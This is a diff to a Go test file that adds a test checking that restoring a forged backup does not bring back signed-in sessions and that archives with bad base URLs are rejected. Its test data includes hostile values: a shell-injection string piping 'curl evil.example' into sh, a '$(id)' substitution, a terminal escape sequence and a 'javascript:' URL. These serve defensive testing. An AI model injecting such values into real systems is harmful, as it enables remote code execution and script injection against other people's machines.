@@ -131,6 +131,48 @@ func TestBackup_hasNothingThatOpensADoorByItself(t *testing.T) {
 	})
 }
 
+// Whoever knows for whom backups are sealed can seal one that looks like ours.
+func TestRestore_opensNoDoorThatAForgedBackupBrings(t *testing.T) {
+	alder(t, func(n *neighbourhood) {
+		var forged bytes.Buffer
+		a, err := store.NewArchive(&forged, store.Head{Schema: n.schema(), MadeAt: n.now, BaseURL: "https://alder.example"})
+		if err != nil {
+			n.Fatal(err)
+		}
+		n.do(func(tx *store.Tx) error { _, err := people.StartSession(tx, n.now, n.ana, ""); return err })
+		n.see(func(v *store.View) error { return v.Dump(nil, a.Add) })
+		if err := a.Close(); err != nil {
+			n.Fatal(err)
+		}
+		there := n.restore(elsewhere(n, n.Dialect()), forged.Bytes())
+		there.see(func(v *store.View) error {
+			sessions, err := store.Exists(v.DB().Table("sessions"))
+			if sessions {
+				n.Error("somebody is signed in")
+			}
+			return err
+		})
+		for _, address := range []string{"", "https://a.example; curl evil.example|sh", "https://a.example/$(id)", "https://a\x1b[2J.example", "javascript:alert(1)"} {
+			forged.Reset()
+			if _, err := store.NewArchive(&forged, store.Head{Schema: 1, MadeAt: n.now, BaseURL: address}); err != nil {
+				n.Fatal(err)
+			}
+			if _, err := store.ReadArchive(&forged); err == nil || !strings.Contains(err.Error(), "no address") {
+				n.Errorf("%q: %v", address, err)
+			}
+		}
+	})
+}
+
+func (n *neighbourhood) schema() int64 {
+	n.Helper()
+	schema, err := n.Schema(context.Background())
+	if err != nil {
+		n.Fatal(err)
+	}
+	return schema
+}
+
 func TestRestore_refusesWhatIsNotEmpty(t *testing.T) {
 	alder(t, func(n *neighbourhood) {
 		backup := n.backup()
